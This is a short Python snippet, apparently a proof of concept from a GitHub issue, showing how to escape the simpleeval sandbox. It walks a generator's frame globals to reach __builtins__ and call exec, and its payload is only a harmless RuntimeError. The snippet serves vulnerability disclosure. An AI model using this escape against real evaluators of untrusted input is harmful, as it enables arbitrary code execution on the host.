# Source: https://github.com/danthedeckie/simpleeval/issues/138 (escaping the sandbox through generators)
def bar():
    yield "hello"

bar().gi_frame.f_globals["__builtins__"].exec("raise RuntimeError('hacked')")
